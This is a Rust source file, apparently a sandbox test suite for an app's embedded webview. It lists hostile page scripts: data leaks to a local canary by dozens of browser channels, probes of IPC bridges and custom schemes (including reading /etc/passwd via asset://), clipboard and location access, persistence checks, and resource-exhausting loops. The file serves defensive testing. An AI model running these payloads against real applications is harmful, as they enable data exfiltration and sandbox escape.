//! What hostile pages try. In each script, `out` is an address on another origin that counts who
//! comes, `won()` tells the page's own site that the trick worked, `html(text)` adds markup, and
//! `clicked()` waits for a person's click, which some tricks need.

/// A trick: its name, which success is told by, and its script.
pub type Trick = (&'static str, &'static str);

/// Tricks that leave the page where it is; they are tried all at once.
pub const QUIET: &[Trick] = &[
    // Ways out for data.
    ("fetch", "fetch(out, { mode: 'no-cors' })"),
    (
        "fetch-keepalive",
        "fetch(out, { mode: 'no-cors', keepalive: true })",
    ),
    (
        "xhr",
        "const call = new XMLHttpRequest(); call.open('GET', out); call.send()",
    ),
    ("image", "new Image().src = out"),
    ("srcset", "html(`<img srcset='${out} 1x, ${out} 2x'>`)"),
    (
        "css-background",
        "html(`<div style='background: url(${out}); width: 9px; height: 9px'></div>`)",
    ),
    ("css-import", "html(`<style>@import url(${out});</style>`)"),
    (
        "css-font",
        "html(`<style>@font-face { font-family: f; src: url(${out}) }</style><p style='font-family: f'>x</p>`)",
    ),
    (
        "css-list-image",
        "html(`<ul style='list-style-image: url(${out})'><li>x</ul>`)",
    ),
    (
        "css-mask",
        "html(`<div style='-webkit-mask-image: url(${out}); width: 9px; height: 9px; background: red'></div>`)",
    ),
    ("stylesheet", "html(`<link rel=stylesheet href='${out}'>`)"),
    (
        "script",
        "const script = document.createElement('script'); script.src = out; document.body.append(script)",
    ),
    ("module", "import(out)"),
    ("iframe", "html(`<iframe src='${out}'></iframe>`)"),
    (
        "frame-of-markup",
        "html(`<iframe srcdoc=\"<img src='${out}'>\"></iframe>`)",
    ),
    (
        "frame-that-moves",
        "html(`<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=${out}'>\"></iframe>`)",
    ),
    ("object", "html(`<object data='${out}'></object>`)"),
    ("embed", "html(`<embed src='${out}'>`)"),
    ("video", "html(`<video src='${out}' preload=auto></video>`)"),
    ("audio", "html(`<audio src='${out}' preload=auto></audio>`)"),
    ("poster", "html(`<video poster='${out}'></video>`)"),
    (
        "preload",
        "html(`<link rel=preload as=image href='${out}'>`)",
    ),
    (
        "module-preload",
        "html(`<link rel=modulepreload href='${out}'>`)",
    ),
    ("svg-image", "html(`<svg><image href='${out}'/></svg>`)"),
    ("input-image", "html(`<input type=image src='${out}'>`)"),
    ("beacon", "navigator.sendBeacon(out)"),
    (
        "ping",
        "html(`<a id=ping href='#' ping='${out}'>x</a>`); document.getElementById('ping').click()",
    ),
    ("event-source", "new EventSource(out)"),
    ("websocket", "new WebSocket(out.replace('http', 'ws'))"),
    ("worker", "worker(`fetch('${out}', { mode: 'no-cors' })`)"),
    ("worker-import", "worker(`importScripts('${out}')`)"),
    (
        "worker-websocket",
        "worker(`new WebSocket('${out.replace('http', 'ws')}')`)",
    ),
    (
        "shared-worker",
        "new SharedWorker('/worker.js?to=' + encodeURIComponent(out))",
    ),
    (
        "service-worker",
        "navigator.serviceWorker.register('/worker.js?to=' + encodeURIComponent(out))",
    ),
    (
        "form-in-frame",
        "html(`<iframe name=hole></iframe><form id=form target=hole method=post action='${out}'></form>`); document.getElementById('form').submit()",
    ),
    (
        "redirected-fetch",
        "fetch('/redirect?to=' + encodeURIComponent(out), { mode: 'no-cors' })",
    ),
    (
        "redirected-image",
        "new Image().src = '/redirect?to=' + encodeURIComponent(out)",
    ),
    (
        "redirected-frame",
        "html(`<iframe src='/redirect?to=${encodeURIComponent(out)}'></iframe>`)",
    ),
    ("report", "html(`<img src='/forbidden-by-the-policy'>`)"),
    (
        "other-name",
        "fetch(location.origin.replace('127.0.0.1', 'localhost') + '/won/other-name', { mode: 'no-cors' })",
    ),
    // Ways to the program around the page.
    ("ipc-object", "if (window.ipc) won()"),
    (
        "message-handler",
        "if (window.webkit?.messageHandlers?.ipc) won()",
    ),
    ("tauri-object", "if (window.__TAURI_INTERNALS__) won()"),
    (
        "scheme-ipc",
        "await fetch('ipc://localhost/get_console'); won()",
    ),
    (
        "scheme-tauri",
        "await fetch('tauri://localhost/index.html'); won()",
    ),
    (
        "scheme-asset",
        "await fetch('asset://localhost/etc/passwd'); won()",
    ),
    // Ways to the person's things.
    (
        "clipboard",
        "html(`<textarea id=paste></textarea>`); paste.focus(); document.execCommand('paste'); if (paste.value !== '') won()",
    ),
    (
        "location",
        "navigator.geolocation.getCurrentPosition(won, (no) => { if (no.code !== no.PERMISSION_DENIED) won() })",
    ),
    // What one console leaves for the next: seen on a second visit.
    (
        "kept-cookie",
        "if (document.cookie.includes('kept')) won(); document.cookie = 'kept=1; max-age=9999'",
    ),
    (
        "kept-storage",
        "if (localStorage.kept) won(); localStorage.kept = 1",
    ),
    (
        "kept-database",
        "let known = true; const open = indexedDB.open('kept'); open.onupgradeneeded = () => { known = false }; open.onsuccess = () => { if (known) won() }",
    ),
    (
        "kept-cache",
        "if (await caches.has('kept')) won(); await caches.open('kept')",
    ),
];

/// Tricks that go away or show something: a page each.
pub const LOUD: &[Trick] = &[
    ("go-location", "location.href = out"),
    ("go-replace", "location.replace(out)"),
    (
        "go-form",
        "html(`<form id=form method=post action='${out}'></form>`); document.getElementById('form').submit()",
    ),
    (
        "go-link",
        "html(`<a id=link href='${out}'>x</a>`); document.getElementById('link').click()",
    ),
    (
        "go-refresh",
        "html(`<meta http-equiv=refresh content='0;url=${out}'>`)",
    ),
    (
        "go-redirect",
        "location.href = '/redirect?to=' + encodeURIComponent(out)",
    ),
    (
        "go-blob",
        "location.href = URL.createObjectURL(new Blob([`<img src='${out}'>`], { type: 'text/html' }))",
    ),
    (
        "open-window",
        "await clicked(); if (window.open(out) !== null) won()",
    ),
    (
        "open-link",
        "html(`<a id=link target=_blank href='${out}'>x</a>`); await clicked(); document.getElementById('link').click()",
    ),
    (
        "notification",
        "await clicked(); if (await Notification.requestPermission() === 'granted') won()",
    ),
    (
        "download-link",
        "html(`<a id=link href='/file' download=trick-download-link>x</a>`); document.getElementById('link').click()",
    ),
    (
        "download-frame",
        "html(`<iframe src='/attachment?name=trick-download-frame'></iframe>`)",
    ),
    ("title", "document.title = 'trick-title'"),
    (
        "file-picker",
        "html(`<input type=file id=pick>`); await clicked(); document.getElementById('pick').click()",
    ),
    ("print", "window.print()"),
];

/// Pages that use up what there is, or hold on to their window.
pub const HOGS: &[Trick] = &[
    ("busy-loop", "won(); setTimeout(() => { for (;;); }, 300)"),
    (
        "dialog-loop",
        "won(); setTimeout(() => { for (;;) alert('once more'); }, 300)",
    ),
    (
        "unload",
        "addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'stay'; for (;;); }); won()",
    ),
    (
        "history-flood",
        "won(); setInterval(() => { for (let at = 0; at < 99; at++) history.pushState(0, '', '?' + Math.random()) }, 1)",
    ),
    (
        "title-flood",
        "won(); setInterval(() => { document.title = 'x'.repeat(99999) + Math.random() }, 1)",
    ),
    (
        "worker-flood",
        "won(); for (let at = 0; at < 8; at++) worker('for (;;);')",
    ),
];

const FRAME: &str = r#"<!doctype html><meta charset=utf-8><title>provider</title>
<body style="background: #204060; color: white; height: 700px">a page
<script>
const html = (text) => document.body.append(document.createRange().createContextualFragment(text));
const worker = (text) =>
  new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
const clicked = () => new Promise((done) => addEventListener('pointerdown', done, { once: true }));
async function trick(name, act) {
  const out = 'http://127.0.0.1:CANARY/' + name;
  const won = () => fetch('/won/' + name, { keepalive: true });
  try { await act(out, won); } catch {}
}
TRICKS
setTimeout(() => fetch('/done'), LINGER);
</script>
"#;

/// A page that tries these tricks, and says that it is done after so many milliseconds.
pub fn page(tricks: &[Trick], canary_port: u16, linger_ms: u32) -> String {
    let calls: String = tricks
        .iter()
        .map(|(name, script)| format!("trick('{name}', async (out, won) => {{ {script} }});\n"))
        .collect();
    FRAME
        .replace("CANARY", &canary_port.to_string())
        .replace("LINGER", &linger_ms.to_string())
        .replace("TRICKS", &calls)
}
